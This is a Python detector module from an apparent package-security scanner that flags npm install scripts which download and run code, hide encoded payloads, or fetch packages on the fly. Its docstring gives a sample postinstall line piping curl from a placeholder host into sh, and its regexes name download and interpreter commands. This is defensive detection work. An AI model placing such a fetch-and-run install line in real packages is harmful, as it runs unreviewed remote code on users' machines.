"""An install script fetches something and runs it, or hides what it runs.

*What it does*

Reads the command lines of the lifecycle scripts, of the scripts that they call (`npm run setup`) and of the shell files
that they run. It speaks of lines that download (`curl`, `wget`, PowerShell), pipe into an interpreter, send facts about
the machine out, carry code or an encoded payload on the line itself, run a file that is not named like code, or run a
package that is fetched for the occasion (`npx`, `npm install`).

Scripts that only run when a package is installed from git (`prepare`) count less. Programs that download from within
JavaScript are left to the rules about source code.

*Why it matters*

It runs with your rights the moment the package is installed, before anybody has read a line of it. About three of four
malicious packages use an install script, and what one fetches can be changed after you have looked.

*Example*

    name = "acme-widgets"

    [release.manifest.scripts]
    postinstall = "curl -s https://cdn.acme.invalid/setup.sh | sh"
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from posixpath import normpath

from assay.detectors._command_line import Shape, shape_of
from assay.detectors._package_json import evidence_at, manifest_of
from assay.detectors.metadata._lifecycle import (
    Line,
    install_scripts,
    is_build,
    is_housekeeping,
    prepare_scripts,
)
from assay.model.finding import MAX_EXCERPT, Evidence, Finding, finding
from assay.model.location import Location
from assay.model.manifest import Manifest
from assay.model.package import split_name
from assay.model.rule import Concern, Confidence, Rule, Severity
from assay.model.subject import Subject

RULE = Rule(
    id="install-script-fetches",
    title="Install script that fetches or hides what it runs",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not install it with scripts on. Read what the script would fetch, or use a package that ships its code.",
    techniques=("T1195.002", "T1059.007", "T1105"),
)

#: Lines of a shell file that are read.
MAX_FILE_LINES = 2_000
_PACKAGE = r"(?:(?:-p|--package)[\s=])?(?P<package>@?\w[\w.~-]*(?:/[\w.~-]+)?)(?:@\S*)?(?:\s|$)"
_FETCHES_PACKAGE = re.compile(
    r"^(?:npx|bunx|pnpx|(?:npm|pnpm)\s+(?:exec|x|dlx)|yarn\s+dlx|bun\s+x)\s+(?:--?(?!p\b|package\b)\S+\s+)*" + _PACKAGE
)
_INSTALLS_PACKAGE = re.compile(
    r"^(?:npm|pnpm|yarn|bun)\s+(?:i|install|add)\s+(?:(?:--prefix|--dir|--cwd|-C|--registry)(?:=|\s+)\S+\s+"
    r"|(?!--prefix\b|--dir\b|--cwd\b|-C\b|--registry\b)-\S+\s+)*" + _PACKAGE
)
_SHELL_FILE = re.compile(
    r"^(?:sudo\s+)?(?:(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*|python[\d.]*\s+(?:-\w+\s+)*"
    r"|powershell(?:\.exe)?\s+(?:-\w+\s+(?:bypass\s+)?)*|pwsh\s+(?:-\w+\s+)*"
    r"|cmd(?:\.exe)?\s+/c\s+|source\s+|\.\s+)?[\"']?(?P<path>[\w./\\-]+)",
    re.IGNORECASE,
)
_COMMENT = re.compile(r"^\s*(?:#|rem\b|::|echo\b|printf\b|Write-Host\b)", re.IGNORECASE)
_RUNS_A_PACKAGE = Severity.MEDIUM, Confidence.MEDIUM


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each lifecycle script with such a line, about the most telling one."""
    manifest = manifest_of(subject)
    for script in install_scripts(manifest):
        found = [each for line in script.lines for each in _telling(subject, manifest, line)]
        if found:
            shape, evidence = max(found, key=lambda each: (each[0].severity, each[0].confidence))
            yield _finding(subject, script.name, shape, evidence, shape.severity, shape.confidence)
    for script in prepare_scripts(manifest):
        line = script.lines[0]
        prepared = shape_of(line.command)
        if prepared is not None and prepared.severity >= Severity.HIGH:
            evidence = evidence_at(subject, f"it {prepared.what}", "scripts", line.key)
            yield _finding(subject, script.name, prepared, evidence, Severity.MEDIUM, Confidence.LOW)


def _finding(
    subject: Subject, script: str, shape: Shape, evidence: Evidence, severity: Severity, confidence: Confidence
) -> Finding:
    message = f"the {script} script of {subject.ref} {shape.what}"
    return finding(RULE, message, evidence, severity=severity, confidence=confidence)


def _telling(subject: Subject, manifest: Manifest, line: Line) -> Iterator[tuple[Shape, Evidence]]:
    """What is telling about one line, and about the shell files that it runs."""
    shape = None if all(map(is_housekeeping, line.steps)) else shape_of(line.command)
    if shape is not None:
        yield shape, evidence_at(subject, f"it {shape.what}", "scripts", line.key)
    for step in line.steps:
        package = _fetched_package(step, manifest)
        if package:
            shape = Shape(f"fetches the package {package} and runs it", *_RUNS_A_PACKAGE)
            yield shape, evidence_at(subject, f"it {shape.what}", "scripts", line.key)
        yield from _in_file(subject, step)


def _fetched_package(step: str, manifest: Manifest) -> str:
    """The package that a command fetches, "" if it fetches none or one that is installed with this one anyway."""
    found = _FETCHES_PACKAGE.match(step) or _INSTALLS_PACKAGE.match(step)
    if found is None or is_build(step) or is_housekeeping(step):
        return ""
    package = found["package"]
    own = {**manifest.dependencies, **manifest.optional_dependencies, **manifest.peer_dependencies, **manifest.bin}
    bare = {split_name(name)[1] for name in own}
    return "" if package in own or package in bare or package.startswith(".") else package[:100]


def _in_file(subject: Subject, step: str) -> Iterator[tuple[Shape, Evidence]]:
    """The most telling line of the shell file that a command runs."""
    found = _SHELL_FILE.match(step)
    path = normpath(found["path"].replace("\\", "/")) if found else ""
    is_shell = path.lower().endswith((".sh", ".bash", ".ps1", ".bat", ".cmd", ".py")) or step.startswith(
        ("sh ", "bash ")
    )
    member = subject.tarball.member(path) if subject.tarball is not None and is_shell else None
    if member is None or member.data is None:
        return
    best: tuple[Shape, Evidence] | None = None
    lines = member.data.decode("utf-8", "replace").splitlines()
    for number, text in enumerate(lines[:MAX_FILE_LINES], start=1):
        shape = None if _COMMENT.match(text) else shape_of(text)
        if shape is not None and (best is None or shape.severity > best[0].severity):
            fact = f"{path} {shape.what}"
            best = shape, Evidence(fact, Location(path, number), excerpt=text.strip()[:MAX_EXCERPT])
    if best is not None:
        yield best
